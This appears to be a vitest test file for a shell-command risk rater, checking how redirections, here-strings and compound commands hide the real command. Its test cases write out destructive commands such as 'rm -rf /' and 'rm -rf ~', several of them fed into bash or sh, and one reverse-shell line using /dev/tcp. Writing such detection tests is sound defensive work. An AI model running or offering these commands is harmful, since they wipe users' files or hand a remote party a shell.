import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { Risk, ShellKind } from "./types.js";

/**
 * Redirections may stand anywhere among a command's words: the words after a redirection's target
 * are the command's arguments (`rm > x -rf /` is `rm -rf / > x`), and a here-string may follow
 * another redirection (`cat > x <<< y`), where the grammar reads `<<` and `< y`.
 */
const rated = shellRater();

describe("words after a redirection's target", () => {
  it.each<[ShellKind, string, Risk]>([
    ["bash", "rm > x -rf /", "critical"],
    ["bash", "rm -rf 2>/dev/null ~", "critical"],
    ["bash", "rm 2>/dev/null -rf ~", "critical"],
    ["zsh", "rm >/dev/null -rf ~", "critical"],
    ["bash", "echo a | rm > x -rf ~", "critical"],
    ["bash", "true && rm > x -rf ~", "critical"],
    ["bash", "printf '%s' > out.txt a b", "safe"],
    // A number against the next redirection is its descriptor, not a word.
    ["bash", "cat > out.txt 2>/dev/null", "safe"],
    ["bash", "sh -i > out.txt 0</dev/tcp/10.0.0.1/4444", "critical"],
    // After a compound command a word is a syntax error to bash: nothing of the line runs.
    ["bash", "{ echo; } > x y", "high"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("a here-string after another redirection", () => {
  it.each<[ShellKind, string, Risk]>([
    ["bash", "cat > x <<< 'y'", "safe"],
    ["zsh", "cat > x <<< 'y'", "safe"],
    ["bash", "cat 2>/dev/null <<<\"a b\" > z", "safe"],
    ["bash", "echo a | cat > x <<< y", "safe"],
    ["bash", "cat > x 2<<< y", "safe"],
    // The here-string is what the command reads.
    ["bash", "bash > out.txt <<< 'rm -rf ~'", "critical"],
    ["bash", "sh 2>/dev/null <<< 'rm -rf /'", "critical"],
    ["bash", "cat > x.sh <<< 'rm -rf ~'; sh x.sh", "critical"],
    // Words after it are the command's arguments.
    ["bash", "x=/; rm > o <<< y -rf $x", "critical"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
    expect(r.details.join("; "), r.shown).not.toMatch(/syntax error/);
  });

  it("the words after the here-string are rm's arguments, and nothing else is found", () => {
    const r = rated("x=/; rm > o <<< y -rf $x");
    expect(r.details, r.shown).toEqual(["deletes / recursively"]);
  });
});

describe("what a compound command's redirections feed the commands inside it", () => {
  // `{ …; } <<< text`, `( … ) < file`, `if …; fi <<EOF`, `… | { …; }`: the commands inside read the
  // compound's standard input, so a shell among them runs the text.
  it.each<[ShellKind, string, Risk]>([
    ["bash", "{ bash; } <<< 'rm -rf ~'", "critical"],
    ["bash", "{ echo; bash; } > x <<< 'rm -rf ~'", "critical"],
    ["bash", "{ bash; } > x <<< 'rm -rf ~'", "critical"],
    ["bash", "( sh ) <<< 'rm -rf ~'", "critical"],
    ["bash", "if true; then bash; fi <<< 'rm -rf ~'", "critical"],
    ["bash", "{ sh; } <<EOF\nrm -rf ~\nEOF", "critical"],
    ["zsh", "{ zsh; } <<< 'rm -rf ~'", "critical"],
    ["bash", "{ bash; } < <(echo 'rm -rf ~')", "critical"],
    ["bash", "{ bash; } <<< 'rm -rf ~' | cat", "critical"],
    // A pipe feeds the compound command its input the same way.
    ["bash", "echo 'rm -rf ~' | { bash; }", "critical"],
    ["bash", "echo 'rm -rf ~' | ( cd /tmp && sh )", "critical"],
    ["bash", "echo 'rm -rf ~' | { cat; }", "safe"],
    ["bash", "{ echo; } > x <<< y", "safe"],
    ["bash", "{ cat; } <<< 'rm -rf ~'", "safe"],
    ["bash", "{ bash; } <<< 'echo hi'", "safe"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});
